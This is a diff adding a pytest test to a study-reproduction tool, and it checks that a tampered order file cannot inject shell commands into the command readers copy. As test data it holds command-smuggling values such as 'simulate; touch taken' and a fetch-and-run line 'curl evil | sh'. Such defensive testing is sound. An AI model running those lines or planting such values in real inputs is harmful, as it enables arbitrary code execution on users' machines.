@@ -91,11 +91,33 @@ def test_a_reproduction_has_only_studies_beside_it(tmp_path: Path, elsewhere: Pa
     assert {name: one.directory for name, one in running.done(place, study).items()} == {names[0]: beside}
 
 
+def test_a_reproduction_brings_no_command_into_its_report(tmp_path: Path) -> None:
+    """Readers copy the command: its words are dumbbell's own, whatever a stranger's folder says."""
+    ordered = running.Ordered("/home/me/a study", "a study", "simulate", True, ("one",))
+    running.keep(tmp_path, ordered)
+    assert running.kept(tmp_path) == ordered
+    assert ordered.command == "dumbbell reproduce 'a study' --engine simulate --quick"
+    file = tmp_path / running.ORDERED
+    told = json.loads(file.read_text())
+    for wrong in (
+        {"engine": "simulate; touch taken"},
+        {"engine": ["simulate"]},
+        {"quick": "; touch taken"},
+        {"named": "--agree"},
+        {"lacking": 7},
+    ):
+        file.write_text(json.dumps({**told, **wrong}))
+        with pytest.raises(InputError, match="is damaged"):
+            running.kept(tmp_path)
+    file.write_text(json.dumps({**told, "command": "curl evil | sh", "named": "x; touch taken"}))
+    assert running.kept(tmp_path).command == "dumbbell reproduce 'x; touch taken' --engine simulate --quick"
+
+
 @pytest.mark.parametrize("part", ["", "plots", "parts.json"])
 def test_a_reproduction_that_is_a_link_is_not_written(tmp_path: Path, elsewhere: Path, part: str) -> None:
     place = tmp_path / "reproductions" / "rincao-2021"
     (place / part).parent.mkdir(parents=True)
     (place / part).symlink_to(elsewhere)
     with pytest.raises(InputError, match="is a link"):
-        running.keep(place, running.Ordered("rincao-2021", "dumbbell reproduce rincao-2021"))
+        running.keep(place, running.Ordered("rincao-2021", "rincao-2021"))
     assert list(elsewhere.iterdir()) == []
